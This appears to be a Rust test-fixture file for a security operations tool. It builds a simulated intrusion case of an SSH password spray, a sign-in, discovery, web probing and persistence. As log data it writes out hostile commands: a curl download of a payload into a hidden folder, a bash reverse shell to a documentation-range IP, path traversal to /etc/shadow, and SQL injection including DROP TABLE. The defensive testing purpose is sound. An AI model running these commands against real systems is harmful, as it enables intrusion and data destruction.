//! Cases for tests: a builder, and one like the recorded attack (a spray, a sign-in, work inside, web probing, an office
//! that goes on working).

use shieldops_model::{
    Alert, AlertId, AlertStatus, Attack, Entity, EntityKind, Environment, EventId, Http, Incident, IncidentId,
    IncidentStatus, LogSource, Ocsf, Process, Severity, Target, TargetId, TargetKind, Timestamp,
};

use crate::case::{AlertRef, CaseEvent, CaseFile, Searched, class};

/// 2026-11-21T12:19:52Z.
pub(crate) const START: i64 = 1_795_263_592;
pub(crate) const ATTACKER: &str = "203.0.113.66";
pub(crate) const OFFICE: &str = "198.51.100.23";
pub(crate) const HOST: &str = "web-01";

/// A rule as an event's alert names it: title, severity, tactics, technique.
pub(crate) type Rule = (&'static str, Severity, &'static [&'static str], &'static str);

pub(crate) const FAILED: Rule = ("Failed sign-in over SSH", Severity::Low, &["credential-access"], "T1110");
pub(crate) const SIGN_IN: Rule =
    ("Password sign-in over SSH from the internet", Severity::Medium, &["initial-access"], "T1078");
pub(crate) const SQLI: Rule = ("SQL injection in a request", Severity::High, &["initial-access"], "T1190");
pub(crate) const TRAVERSAL: Rule = ("Path traversal in a request", Severity::High, &["initial-access"], "T1190");
pub(crate) const RECON: Rule = ("Discovery of accounts", Severity::Low, &["discovery"], "T1033");
pub(crate) const DOWNLOAD: Rule = ("Download to a hidden folder", Severity::High, &["command-and-control"], "T1105");
pub(crate) const REVERSE: Rule = ("Shell over a network connection", Severity::High, &["execution"], "T1059.004");
pub(crate) const CRON: Rule = ("Crontab of a user replaced", Severity::Medium, &["persistence"], "T1053.003");
pub(crate) const KEYS: Rule = ("Authorised keys changed", Severity::High, &["persistence"], "T1098.004");

#[derive(Debug)]
pub(crate) struct Builder {
    pub(crate) events: Vec<CaseEvent>,
    pub(crate) alerts: Vec<Alert>,
}

impl Builder {
    pub(crate) fn new() -> Self {
        Self { events: Vec::new(), alerts: Vec::new() }
    }

    fn event(&mut self, millis: i64, source: &str, ocsf: Ocsf) -> &mut Self {
        let number = u128::try_from(self.events.len()).unwrap() + 1;
        let ocsf = Ocsf { device: Some(HOST.into()), ..ocsf };
        let entity = |kind, value: &Option<String>| value.as_ref().map(|value| Entity::new(kind, value.clone()));
        let entities = [
            entity(EntityKind::Ip, &ocsf.src_ip),
            entity(EntityKind::Host, &ocsf.device),
            entity(EntityKind::User, &ocsf.user),
            entity(EntityKind::User, &ocsf.actor_user),
            entity(EntityKind::File, &ocsf.file),
        ];
        self.events.push(CaseEvent {
            id: EventId::from_bits(0x019a_0000_0000_7000_8000_0000_0000_0000 + number),
            time: Timestamp::from_millis(START * 1_000 + millis),
            source: source.into(),
            log_source: LogSource {
                product: Some("linux".into()),
                categories: Vec::new(),
                service: Some(source.into()),
            },
            ocsf,
            entities: entities.into_iter().flatten().collect(),
            alerts: Vec::new(),
        });
        self
    }

    pub(crate) fn auth(&mut self, millis: i64, address: &str, user: &str, outcome: &str) -> &mut Self {
        let word = if outcome == "success" { "Accepted" } else { "Failed" };
        self.event(
            millis,
            "sshd",
            Ocsf {
                class_uid: class::AUTHENTICATION,
                class_name: "Authentication".into(),
                activity: "Logon".into(),
                status: Some(outcome.into()),
                message: Some(format!("{word} password for {user} from {address} port 51188 ssh2")),
                user: Some(user.into()),
                src_ip: Some(address.into()),
                session: Some(millis.to_string()),
                ..Ocsf::default()
            },
        )
    }

    /// The same kind of try as the audit log tells it.
    pub(crate) fn audited(&mut self, millis: i64, address: &str, user: &str, outcome: &str) -> &mut Self {
        self.auth(millis, address, user, outcome);
        if let Some(event) = self.events.last_mut() {
            event.source = "auditd".into();
            event.log_source.service = Some("auditd".into());
            event.ocsf.message = None;
        }
        self
    }

    /// A process of `user` in audit session `session`.
    pub(crate) fn exec(&mut self, millis: i64, user: &str, session: u32, pids: (u64, u64), line: &str) -> &mut Self {
        let program = line.split(' ').next().unwrap();
        let (pid, parent) = pids;
        self.event(
            millis,
            "auditd",
            Ocsf {
                class_uid: class::PROCESS,
                class_name: "Process Activity".into(),
                activity: "Launch".into(),
                status: Some("success".into()),
                actor_user: Some(user.into()),
                process: Some(Process {
                    pid: Some(pid),
                    image: Some(format!("/usr/bin/{program}")),
                    command_line: Some(line.into()),
                }),
                parent: Some(Process { pid: Some(parent), ..Process::default() }),
                session: Some(session.to_string()),
                ..Ocsf::default()
            },
        )
    }

    pub(crate) fn file(&mut self, millis: i64, user: &str, session: u32, pid: u64, path: &str) -> &mut Self {
        self.event(
            millis,
            "auditd",
            Ocsf {
                class_uid: class::FILE,
                class_name: "File System Activity".into(),
                activity: "Create".into(),
                status: Some("success".into()),
                actor_user: Some(user.into()),
                process: Some(Process { pid: Some(pid), image: Some("/usr/bin/bash".into()), command_line: None }),
                file: Some(path.into()),
                session: Some(session.to_string()),
                ..Ocsf::default()
            },
        )
    }

    pub(crate) fn web(&mut self, millis: i64, address: &str, target: &str, status: u16, agent: &str) -> &mut Self {
        self.event(
            millis,
            "nginx",
            Ocsf {
                class_uid: class::HTTP,
                class_name: "HTTP Activity".into(),
                activity: "Request".into(),
                src_ip: Some(address.into()),
                http: Some(Http {
                    method: Some("GET".into()),
                    target: Some(target.into()),
                    status: Some(status),
                    user_agent: Some(agent.into()),
                }),
                ..Ocsf::default()
            },
        )
    }

    /// An alert of `rule` on the last event; one alert for a rule, as triage makes it.
    pub(crate) fn alert(&mut self, rule: Rule) -> &mut Self {
        let (title, severity, tactics, technique) = rule;
        let event = self.events.last_mut().unwrap();
        let place = self.alerts.iter().position(|alert| alert.rule_title == title).unwrap_or_else(|| {
            let id = AlertId::from_bits(
                0x019a_0000_0000_7000_8000_0000_0000_0100 + u128::try_from(self.alerts.len()).unwrap(),
            );
            let mut alert = blank_alert(id, event.time);
            alert.rule_title = title.into();
            alert.rule_id = title.to_lowercase().replace(' ', "-");
            alert.severity = severity;
            alert.attack = Attack {
                tactics: tactics.iter().map(|tactic| (*tactic).to_owned()).collect(),
                techniques: vec![technique.into()],
            };
            self.alerts.push(alert);
            self.alerts.len() - 1
        });
        let alert = &mut self.alerts[place];
        alert.count += 1;
        alert.last_seen = event.time;
        alert.event_ids.push(event.id);
        alert.event_ids.truncate(50);
        event.alerts.push(AlertRef::from(&*alert));
        self
    }

    pub(crate) fn case(&self) -> CaseFile {
        let first = self.events.first().map_or(Timestamp::from_secs(START), |event| event.time);
        CaseFile {
            incident: incident(first),
            alerts: self.alerts.clone(),
            events: self.events.clone(),
            targets: vec![target("twin/demo", HOST)],
            live_blocks: Vec::new(),
            revision: 1,
            searched: Searched {
                from: Timestamp::from_secs(START - 3_600),
                to: Timestamp::from_secs(START + 1_800),
                events: 2_000,
                complete: true,
                oldest_kept: None,
                unreadable: 0,
            },
            sources: ["auditd", "nginx", "sshd"].map(str::to_owned).to_vec(),
            intel_configured: false,
            unseen: Vec::new(),
        }
    }
}

fn blank_alert(id: AlertId, time: Timestamp) -> Alert {
    Alert {
        id,
        rule_id: String::new(),
        rule_title: String::new(),
        rule_version: "0123456789ab".into(),
        severity: Severity::Low,
        status: AlertStatus::New,
        verdict: None,
        verdict_reason: None,
        fingerprint: "00".repeat(32),
        window_start: time,
        first_seen: time,
        last_seen: time,
        count: 0,
        entities: vec![Entity::new(EntityKind::Host, HOST)],
        attack: Attack::default(),
        event_ids: Vec::new(),
        incident_id: None,
        assignee: None,
        risk_score: 40,
        risk_terms: Vec::new(),
        demo: true,
        superseded: false,
        created_at: time,
        updated_at: time,
        version: 1,
    }
}

pub(crate) fn incident(time: Timestamp) -> Incident {
    Incident {
        id: IncidentId::from_bits(0x019a_0000_0000_7000_8000_0000_0000_0200),
        title: "Password spray from 203.0.113.66, then sign-in as deploy on web-01".into(),
        title_by_person: false,
        severity: Severity::Critical,
        status: IncidentStatus::InProgress,
        verdict: None,
        verdict_reason: None,
        risk_score: 96,
        risk_terms: vec![shieldops_model::RiskTerm {
            name: "level".into(),
            points: 60,
            why: "the highest rule level is high".into(),
        }],
        alert_count: 9,
        event_count: 120,
        entities: vec![Entity::new(EntityKind::Ip, ATTACKER), Entity::new(EntityKind::Host, HOST)],
        attack: Attack::default(),
        first_seen: time,
        last_seen: time,
        assignee: None,
        merged_into: None,
        revision: 1,
        demo: true,
        created_at: time,
        updated_at: time,
        version: 1,
    }
}

pub(crate) fn target(name: &str, host: &str) -> Target {
    Target {
        id: TargetId::from_bits(0x019a_0000_0000_7000_8000_0000_0000_0300),
        kind: TargetKind::LinuxHost,
        name: name.into(),
        host: Some(host.into()),
        environment: Environment::Production,
        criticality: shieldops_model::Criticality::Medium,
        labels: std::collections::BTreeMap::new(),
        owner: None,
        simulated: false,
        realm: None,
        node: None,
        ssh: None,
        protected: false,
        demo: true,
        created_at: Timestamp::from_secs(START),
        version: 1,
    }
}

pub(crate) const SPRAYED: [&str; 16] = [
    "root", "admin", "deploy", "backup", "git", "oracle", "postgres", "mysql", "test", "guest", "ubuntu", "jenkins",
    "nagios", "ftpuser", "www", "tomcat",
];

/// The case of the recorded attack, shortened.
pub(crate) fn recorded() -> Builder {
    let mut case = Builder::new();
    case.auth(800, OFFICE, "admin", "success").exec(900, "admin", 25, (500, 490), "sudo nginx -t");
    for (round, target) in ["/../../etc/passwd", "/download?file=../../etc/shadow"].into_iter().enumerate() {
        case.web(8_000 + 300 * i64::try_from(round).unwrap(), ATTACKER, target, 404, "Nikto/2.5.0").alert(TRAVERSAL);
    }
    for (round, target) in
        ["/products?id=1'", "/products?id=1%20UNION%20SELECT%20NULL", "/products?id=1;DROP TABLE users--"]
            .into_iter()
            .enumerate()
    {
        case.web(9_000 + 300 * i64::try_from(round).unwrap(), ATTACKER, target, 200, "sqlmap/1.7.2").alert(SQLI);
    }
    let mut millis = 20_000;
    for _ in 0..6 {
        for user in SPRAYED {
            case.auth(millis, ATTACKER, user, "failure").alert(FAILED);
            millis += 600;
        }
    }
    case.auth(millis, ATTACKER, "deploy", "success").alert(SIGN_IN);
    inside(&mut case, millis + 1_000);
    case.exec(millis + 30_000, "backup", 40, (900, 890), "find /srv/www -newer /var/backups/last");
    case
}

fn inside(case: &mut Builder, start: i64) {
    case.exec(start, "deploy", 30, (1_000, 999), "bash");
    let lines = ["whoami", "id", "uname -a", "cat /etc/passwd", "ss -tlnp", "ps aux", "w", "find /usr/bin -perm -4000"];
    for (pid, line) in (1_001_u64..).zip(lines) {
        let millis = start + 1_100 * i64::try_from(pid - 1_000).unwrap();
        case.exec(millis, "deploy", 30, (pid, 1_000), line);
        if line == "whoami" || line == "cat /etc/passwd" {
            case.alert(RECON);
        }
    }
    case.exec(
        start + 12_000,
        "deploy",
        30,
        (1_020, 1_000),
        "curl -fsS -o /tmp/.cache/upd http://203.0.113.66:8000/upd",
    )
    .alert(DOWNLOAD);
    case.exec(start + 14_000, "deploy", 30, (1_021, 1_000), "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
        .alert(REVERSE);
    case.file(start + 17_000, "deploy", 30, 1_000, "/home/deploy/.ssh/authorized_keys").alert(KEYS);
    case.exec(start + 19_000, "deploy", 30, (1_022, 1_000), "crontab -").alert(CRON);
}
